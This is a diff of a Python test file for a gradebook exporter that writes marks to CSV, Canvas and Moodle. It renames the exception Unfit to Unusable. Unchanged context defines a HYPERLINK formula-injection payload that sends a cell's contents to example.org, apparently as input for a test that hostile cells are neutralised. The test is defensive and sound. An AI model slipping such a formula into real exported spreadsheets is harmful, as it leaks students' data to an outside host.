@@ -25,7 +25,7 @@ from autograder.nbgrader_plugin.export.lms import (
     as_text,
     published_by_git,
 )
-from autograder.nbgrader_plugin.gradebook.roster import Unfit, read
+from autograder.nbgrader_plugin.gradebook.roster import Unusable, read
 
 ATTENTION, MASKING = "05-attention", "06-masking"
 FORMULA = '=HYPERLINK("http://example.org?"&A1,"marks")'
@@ -144,7 +144,7 @@ def test_the_csv_may_be_of_one_assignment_and_some_students(gradebook, tmp_path)
 
 @pytest.mark.parametrize(("what", "sentence"), [("student", "the student nobody"), ("assignment", "assignment nobody")])
 def test_what_the_gradebook_does_not_know_is_refused(gradebook, tmp_path, what, sentence):
-    with pytest.raises(Unfit, match=sentence):
+    with pytest.raises(Unusable, match=sentence):
         written(CsvExport(**{what: ["nobody"]}), gradebook, tmp_path / "grades.csv")
     assert not (tmp_path / "grades.csv").exists()
 
@@ -267,7 +267,7 @@ def test_another_maximum_is_reported_and_marks_are_scaled_if_that_is_wanted(grad
 def test_an_assignment_without_a_column_is_refused_with_what_to_do(gradebook, tmp_path):
     roster = canvas_roster(tmp_path / "canvas.csv", canvas_row("Late, Lena", "4713", "late"))
     exporter = CanvasExport(roster=roster, assignment=[MASKING])
-    with pytest.raises(Unfit, match=r"has no column for 06-masking\. Make the assignment in Canvas"):
+    with pytest.raises(Unusable, match=r"has no column for 06-masking\. Make the assignment in Canvas"):
         written(exporter, gradebook, tmp_path / "out.csv")
     exporter = CanvasExport(roster=roster, assignment=[ATTENTION], titles={ATTENTION: "Project (91)"})
     assert written(exporter, gradebook, tmp_path / "out.csv")[0][5:] == ["Project (91)"]
@@ -293,10 +293,10 @@ def test_without_a_choice_all_assignments_that_canvas_has_are_filled_in(gradeboo
 def test_a_roster_that_cannot_be_read_is_refused_and_nothing_is_written(gradebook, tmp_path, content, sentence):
     (tmp_path / "canvas.csv").write_bytes(content)
     exporter = CanvasExport(roster=str(tmp_path / "canvas.csv"), assignment=[ATTENTION], titles={ATTENTION: "Section"})
-    with pytest.raises(Unfit, match=sentence):
+    with pytest.raises(Unusable, match=sentence):
         written(exporter, gradebook, tmp_path / "out.csv")
     assert not (tmp_path / "out.csv").exists()
-    with pytest.raises(Unfit, match="cannot be read: No such file"):
+    with pytest.raises(Unusable, match="cannot be read: No such file"):
         read(tmp_path / "nowhere.csv")
 
 
@@ -336,7 +336,7 @@ def test_marks_that_moodle_would_pass_over_are_reported(gradebook, tmp_path, hea
 
 def test_a_worksheet_is_of_one_assignment(gradebook, tmp_path):
     roster = save(tmp_path / "worksheet.csv", [WORKSHEET_HEADER, worksheet_row("51", "Lena", "late@example.edu")])
-    with pytest.raises(Unfit, match="worksheet of one assignment, and the gradebook has 2"):
+    with pytest.raises(Unusable, match="worksheet of one assignment, and the gradebook has 2"):
         written(MoodleExport(roster=roster), gradebook, tmp_path / "out.csv")
 
 
@@ -348,7 +348,7 @@ def test_a_worksheet_in_another_language_needs_its_headings(gradebook, tmp_path)
     header = [german.get(name, name) for name in WORKSHEET_HEADER]
     row = worksheet_row("51", "Lena Late", "late@example.edu", maximum="10,00")
     roster = save(tmp_path / "worksheet.csv", [header, row], delimiter=";")
-    with pytest.raises(Unfit, match="none of the columns that Moodle knows students by"):
+    with pytest.raises(Unusable, match="none of the columns that Moodle knows students by"):
         written(MoodleExport(roster=roster, assignment=[ATTENTION], titles={ATTENTION: "Bewertung"}), gradebook, roster)
     exporter = MoodleExport(roster=roster, assignment=[ATTENTION], headings=german, decimal=",")
     written(exporter, gradebook, tmp_path / "out.csv")
@@ -361,7 +361,7 @@ def test_moodles_grade_export_comes_back_too(gradebook, tmp_path):
     assert written(MoodleExport(roster=roster), gradebook, tmp_path / "out.csv")[1][4] == "10"
     both = [*header, f"Assignment: {ATTENTION} (Percentage)"]
     roster = save(tmp_path / "grades.csv", [both, ["Amina", "Bello", "4711", "old@example.edu", "-", "-"]])
-    with pytest.raises(Unfit, match="Several columns"):
+    with pytest.raises(Unusable, match="Several columns"):
         written(MoodleExport(roster=roster), gradebook, tmp_path / "out.csv")
 
 
@@ -417,7 +417,7 @@ def test_a_key_that_can_do_harm_becomes_text(cell):
 def test_marks_are_not_written_where_git_would_publish_them(gradebook, tmp_path):
     subprocess.run(["git", "init", "--quiet", tmp_path], check=True)
     shutil.copy(ROOT / ".gitignore", tmp_path)
-    with pytest.raises(Unfit, match="git does not ignore it: marks would be published"):
+    with pytest.raises(Unusable, match="git does not ignore it: marks would be published"):
         written(CsvExport(), gradebook, tmp_path / "marks.csv")
     assert not (tmp_path / "marks.csv").exists()
     for name in ("classroom/marks.csv", "grades.csv", "grades-canvas.csv"):
